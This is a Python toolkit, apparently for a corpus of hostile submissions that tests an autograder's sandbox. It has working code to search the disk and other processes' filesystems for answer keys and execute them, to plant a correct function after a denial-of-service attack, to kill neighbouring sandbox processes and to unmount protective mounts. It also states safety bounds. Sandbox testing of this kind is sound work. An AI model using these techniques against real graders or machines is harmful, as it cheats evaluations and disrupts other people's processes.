"""The attackers' toolkit, shared by the attacks of this corpus.

The harness inlines this file into an attack in place of its line
``from _toolkit import ...`` (see README.md), so every submission it grades is one
self-contained file, as a student's would be. Top level defines names only: inlined, it
runs in an instant.

Safety bounds keep the corpus harmless on a shared machine even where a sandbox holds
nothing back (a real attacker would not have them, and they cost the attacks nothing
against a sandbox that works):

* signals reach only processes below the harness's own ``convkit ... grade`` command
  (its arguments contain RUN_MARK), and ``kill(-1)`` is sent only where it provably
  stays inside the grading (a PID namespace of its own, or a uid that is not root);
* files are written only to folders whose path contains RUN_MARK, or under names that
  start with LEFT_MARK (so the harness can find and remove them);
* ``umount2`` is called only where it cannot reach the machine's own mounts;
* every process an attack starts is named ``hostile-...`` and ends by itself within
  minutes.
"""
import ast
import ctypes
import json
import os
import select
import signal
import sys
import time

RUN_MARK = "convkit-hostile-run"  # in every path of a harness run: folder, output, kit copy
LEFT_MARK = "convkit-hostile-left-"  # files an attack leaves outside its own folder
D2L_EXAMPLE = ([[0.0, 1.0, 2.0], [3.0, 4.0, 5.0], [6.0, 7.0, 8.0]], [[0.0, 1.0], [2.0, 3.0]], [[19.0, 25.0], [37.0, 43.0]])
QUESTION_NAMES = ("corr2d", "Conv2D", "learn_kernel", "convolve2d", "diagonal_image", "diagonal_edge_kernel",
                  "directional_edge_kernel", "second_derivative_kernel", "laplacian_kernel", "blur_kernel",
                  "derivative_kernel", "corr2d_matmul", "kernel_matrix", "conv2d_output_shape", "receptive_field")
SKIP_DIRS = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "boot", "etc", "run", ".venv", "venv",
             "site-packages", "dist-packages", "node_modules", ".git", ".cache", ".pyenv", "__pycache__", ".local",
             "snap", "cache", "pip", "share", "include"}
PR_SET_NAME = 15
CAP_KILL, CAP_SYS_ADMIN = 5, 21
_LOG = []
_ADOPTED = []
_libc = ctypes.CDLL(None, use_errno=True)


# ---------------------------------------------------------------- reporting
def log(text):
    _LOG.append(str(text)[:160])


def report():
    """The attack's last statement: one short line in its own feedback, saying what happened."""
    raise RuntimeError("hostile-log: " + "; ".join(_LOG)[:420])


def reward(why):
    """Define a correct corr2d: how a denial-of-service attack shows, in points, that it succeeded."""
    def corr2d(X, K):
        kh, kw = K.shape
        return (X.unfold(0, kh, 1).unfold(1, kw, 1) * K).sum((-1, -2))

    globals()["corr2d"] = corr2d
    log("rewarded: " + why)


# ---------------------------------------------------------------- adopting answer keys
def code_chunks(text):
    """A notebook's code cells, or the whole text of a Python source."""
    if text.lstrip().startswith("{"):
        try:
            cells = json.loads(text).get("cells", [])
            return ["".join(c.get("source", "")) for c in cells if c.get("cell_type") == "code"]
        except (ValueError, AttributeError):
            pass
    return [text]


def definitions(text):
    """Imports, functions and classes: what can run without running anyone's experiments."""
    kinds = (ast.Import, ast.ImportFrom, ast.FunctionDef, ast.ClassDef)
    nodes = []
    for chunk in code_chunks(text):
        try:
            nodes += [n for n in ast.parse(chunk).body if isinstance(n, kinds)]
        except (SyntaxError, ValueError):
            continue
    return [n for n in nodes if not (isinstance(n, ast.ImportFrom) and n.module == "__future__")]


def answers_in(text):
    return sum(f"def {name}(" in text or f"class {name}(" in text for name in QUESTION_NAMES)


def adopt(text, origin):
    """Keep every definition of ``text`` if its corr2d solves d2l's worked example in float64."""
    if _ADOPTED or "def corr2d" not in text:
        return bool(_ADOPTED)
    import torch

    namespace = {"__name__": "found"}
    for node in definitions(text):
        try:
            exec(compile(ast.Module([node], []), str(origin), "exec"), namespace)
        except BaseException:
            pass
    X, K, Y = (torch.tensor(v, dtype=torch.float64) for v in D2L_EXAMPLE)
    try:
        got = namespace["corr2d"](X, K)
        solved = got.dtype == torch.float64 and got.tolist() == Y.tolist()
    except BaseException:
        solved = False
    if solved:
        globals().update({k: v for k, v in namespace.items() if not k.startswith("__")})
        _ADOPTED.append(origin)
        log(f"adopted {origin} ({answers_in(text)} answers)")
    return solved


def read_text(path, limit=4_000_000):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).decode("utf-8", "replace")
    except (OSError, ValueError):
        return ""


def adopt_files(paths, seconds):
    """Try files from the iterator ``paths`` for ``seconds``; the next call resumes it."""
    end = time.monotonic() + seconds
    for path in paths:
        if _ADOPTED or adopt(read_text(path), path) or time.monotonic() > end:
            break
    return bool(_ADOPTED)


# ---------------------------------------------------------------- where things are
def processes():
    """{pid: argv} of every process this sandbox can see."""
    found = {}
    try:
        names = os.listdir("/proc")
    except OSError:  # no /proc, or not allowed to read it
        names = []
    for name in names:
        if name.isdigit():
            try:
                with open(f"/proc/{name}/cmdline", "rb") as handle:
                    found[int(name)] = [w.decode(errors="replace") for w in handle.read().split(b"\0") if w]
            except OSError:
                continue
    return found


def ancestors_of(path):
    path = os.path.abspath(path)
    chain = []
    while path not in chain:
        chain.append(path)
        path = os.path.dirname(path)
    return chain


def paths_in(argv):
    """Every absolute path in a command line, and its ancestors (``PYTHONPATH=/x`` counts)."""
    return [folder for word in argv for part in word.split("=") if part.startswith("/") for folder in ancestors_of(part)]


def _folders(found):
    seen = set()
    return [p for p in found if p and not (p in seen or seen.add(p)) and os.path.isdir(p)]


def kit_places():
    """Folders of the kit grading us: around convkit's code and the grading command's paths."""
    found = []
    kit = sys.modules.get("convkit")
    if kit is not None and getattr(kit, "__file__", None):
        found += ancestors_of(os.path.dirname(kit.__file__))
    visible = processes()
    for pid in my_ancestors():  # up to the grading command (what runs it is not the kit)
        found += paths_in(visible.get(pid, []))
        if is_harness_grade(visible.get(pid, [])):
            break
    return _folders(found)


def places():
    """Folders worth searching, nearest first: the kit's, the cwd's, every process's, common roots."""
    found = kit_places() + ancestors_of(os.getcwd()) + [os.path.expanduser("~")]
    for pid, argv in processes().items():
        for link in ("cwd", "root"):
            try:
                found.append(os.readlink(f"/proc/{pid}/{link}"))
            except OSError:
                pass
        found += paths_in(argv)
    found += ["/work", "/home", "/root", "/srv", "/opt", "/builds", "/__w", "/github", "/tmp", "/var/tmp", "/mnt",
              "/var/lib", "/autograder", "/source"]
    return _folders(found)


def through_other_processes(paths):
    """The same folders as other processes see them (past this sandbox's own mounts), and their cwd."""
    for pid in processes():
        if pid != os.getpid():
            yield f"/proc/{pid}/cwd"
            for path in paths:
                yield f"/proc/{pid}/root{path}"


def walk(top, depth):
    """Paths under ``top`` down to ``depth``, skipping system and package folders."""
    stack = [(top, 0)]
    while stack:
        path, level = stack.pop()
        try:
            entries = list(os.scandir(path))
        except OSError:
            continue
        for entry in entries:
            yield entry.path
            try:
                if level < depth and entry.name not in SKIP_DIRS and entry.is_dir(follow_symlinks=False):
                    stack.append((entry.path, level + 1))
            except OSError:
                pass


DISK_STARTS = ("/work", "/home", "/srv", "/builds", "/__w", "/tmp", "/var/tmp", "/root", "/opt", "/mnt", "/var/lib",
               "/autograder", "/")


def on_disk(endings, skip_prefix="\0"):
    """Paths ending with one of ``endings``, walking the disk from the usual places (depth 6)."""
    for start in DISK_STARTS:
        for path in walk(start, 6):
            if path.endswith(endings) and not path.startswith(skip_prefix):
                yield path


# ---------------------------------------------------------------- processes
def name_process(name):
    _libc.prctl(PR_SET_NAME, ctypes.c_char_p(name.encode()[:15]), 0, 0, 0)


def parent_of(pid):
    try:
        with open(f"/proc/{pid}/stat") as handle:
            return int(handle.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _quietly(function, *args):
    try:
        return function(*args)
    except OSError:
        return None


def group_of(pid):
    return _quietly(os.getpgid, pid)


def session_of(pid):
    return _quietly(os.getsid, pid)


def name_of(pid):
    return _quietly(lambda: open(f"/proc/{pid}/comm").read().strip()) or "?"


def my_ancestors():
    chain, pid = [], os.getpid()
    while pid > 1 and pid not in chain:
        chain.append(pid)
        pid = parent_of(pid)
    return chain


def is_harness_grade(argv):
    """``[python -m] convkit[.cli] grade ...`` with a harness path (not a wrapper that runs one)."""
    head = argv[:4]
    return "grade" in head and any("convkit" in w for w in head) and any(RUN_MARK in w for w in argv)


def grading_tree():
    """(the harness's grade command above us, every process below it), or (None, set())."""
    visible = processes()
    top = next((p for p in my_ancestors() if is_harness_grade(visible.get(p, []))), None)
    if top is None:
        return None, set()
    children = {}
    for pid in visible:
        children.setdefault(parent_of(pid), []).append(pid)
    below, stack = set(), [top]
    while stack:
        for child in children.get(stack.pop(), []):
            below.add(child)
            stack.append(child)
    return top, below


def neighbours():
    """Sandboxes next door: processes below the grading command that left the grader's session.

    Fellow attacks (named hostile-...) and our own ancestors are left out. Where the grading
    command is out of sight: every visible process, but only where signals stay inside.
    """
    spared = set(my_ancestors()) | {1}
    top, below = grading_tree()
    if top is None:
        below = set(processes()) if signals_stay_inside() else set()
    else:
        below = {pid for pid in below if session_of(pid) != session_of(top)}
    return {pid for pid in below - spared if not name_of(pid).startswith("hostile-")}


def _status_field(name):
    try:
        with open("/proc/self/status") as handle:
            for line in handle:
                if line.startswith(name + ":"):
                    return line.split()[1:]
    except OSError:
        pass
    return None


def _has_capability(bit):
    value = _status_field("CapEff")
    if value is not None:
        return bool(int(value[0], 16) >> bit & 1)
    effective = _capget_effective()  # no /proc to read: ask the kernel directly
    return effective is None or bool(effective >> bit & 1)


def _capget_effective():
    """The effective capability set through capget(2), or None if that fails."""
    header = (ctypes.c_uint32 * 2)(0x20080522, 0)
    data = (ctypes.c_uint32 * 6)()
    if _libc.capget(header, data) != 0:
        return None
    return data[0] | data[3] << 32


def _uid_map():
    try:
        with open("/proc/self/uid_map") as handle:
            return [tuple(int(x) for x in line.split()) for line in handle]
    except (OSError, ValueError):
        return None


def _in_initial_user_namespace(uid_map):
    return uid_map == [(0, 0, 4294967295)]


def in_own_pid_namespace():
    """Process 1 is a namespace's init: the machine's own init never runs student code.

    The only evidence there is where no /proc is mounted (convkit's namespaces sandbox).
    """
    return os.getpid() == 1


def signals_stay_inside():
    """True where kill(-1) cannot reach past the grading: own PID namespace, or no root outside."""
    if in_own_pid_namespace():
        return True
    nspid = _status_field("NSpid")
    if nspid and len(nspid) > 1:
        return True
    uid_map = _uid_map()
    if uid_map is None:
        # /proc unreadable (a Landlock sandbox): a uid that is not root, without CAP_KILL,
        # reaches only the processes of its own uid
        return 0 not in {os.getuid(), os.geteuid()} and not _has_capability(CAP_KILL)
    if not uid_map:
        return False
    ids = {os.getuid(), os.geteuid()}
    if _in_initial_user_namespace(uid_map):
        return 0 not in ids and not _has_capability(CAP_KILL)
    outside = {base + uid - start for start, base, count in uid_map for uid in ids if start <= uid < start + count}
    return bool(outside) and 0 not in outside and len(outside) == len(ids)


def unmount_stays_inside():
    """True where umount2 cannot reach the machine's mounts (checked again per mount: not shared)."""
    if in_own_pid_namespace():
        return True  # a PID namespace needs a user namespace of its own: its mounts are its own
    uid_map = _uid_map()
    if uid_map is None:
        return False
    if not _in_initial_user_namespace(uid_map):
        return True  # a user namespace of our own: the host's mounts are locked or slaves here
    try:
        return _has_capability(CAP_SYS_ADMIN) and os.readlink("/proc/self/ns/mnt") != os.readlink("/proc/1/ns/mnt")
    except OSError:
        return False


def signalable_others():
    """Other processes this one may signal (probed with signal 0), its own children aside."""
    pids = processes() or range(2, 65536)
    mine = {os.getpid()} | {pid for pid in pids if parent_of(pid) == os.getpid()}
    return [pid for pid in pids if pid not in mine and kill_quietly(pid, 0)]


MNT_DETACH = 2


def uncover(paths, skip_shared=False):
    """umount2 each path (plain, then lazily); (paths unmounted, errnos seen)."""
    removed, errors = [], set()
    if not unmount_stays_inside():
        log("umount2 skipped: it could reach the machine's own mounts")
        return removed, errors
    for path, shared in paths:
        if shared and skip_shared:
            continue
        for flags in (0, MNT_DETACH):
            if _libc.umount2(path.encode(), flags) == 0:
                removed.append(path)
                break
            errors.add(ctypes.get_errno())
    return removed, errors


def start_children(count, body):
    """Fork ``count`` children running ``body(pipe)``: (their pids, the pipe's reading end)."""
    reader, writer = os.pipe()
    pids = []
    for _ in range(count):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.close(reader)
                body(writer)
            finally:
                os._exit(0)
        pids.append(pid)
    os.close(writer)
    return pids, reader


def gather(children, seconds, expected):
    """Bytes the children write within ``seconds`` (less if ``expected`` bytes came)."""
    _, reader = children
    data, end = b"", time.monotonic() + seconds
    while len(data) < expected and select.select([reader], [], [], max(0.0, end - time.monotonic()))[0]:
        chunk = os.read(reader, 4096)
        if not chunk:
            break
        data += chunk
    return data


def end_children(children):
    """Kill and reap them; how many were still alive."""
    pids, reader = children
    alive = sum(1 for pid in pids if _quietly(os.waitpid, pid, os.WNOHANG) == (0, 0))
    for pid in pids:
        kill_quietly(pid)
        _quietly(os.waitpid, pid, 0)
    os.close(reader)
    return alive


def kill_quietly(pid, sig=signal.SIGKILL, group=False):
    try:
        (os.killpg if group else os.kill)(pid, sig)
        return True
    except OSError:
        return False
